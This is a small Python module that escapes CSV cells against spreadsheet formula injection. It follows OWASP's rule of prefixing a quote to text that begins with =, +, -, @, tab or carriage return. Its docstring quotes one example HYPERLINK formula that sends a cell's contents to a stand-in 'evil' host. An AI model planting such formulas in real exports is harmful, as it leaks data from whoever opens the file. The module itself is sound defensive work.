"""CSV cells a spreadsheet will not run: every CSV Trawl writes (the items export API, feeds in `csv` through
runtime/items/csv_feeds.py) escapes them.

A page decides what an item's fields say, and `=HYPERLINK("http://evil/?"&A1,"click")` in a cell is a formula to
Excel, LibreOffice and Google Sheets: it runs when the export is opened (CSV injection). OWASP's rule: a cell
starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, which spreadsheets take as "text".
Numbers are written as numbers: only text is escaped (so `-5` the number stays `-5`, `"-5"` the text becomes `'-5`).
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: str) -> str:
    """`value` as a CSV cell no spreadsheet evaluates."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value
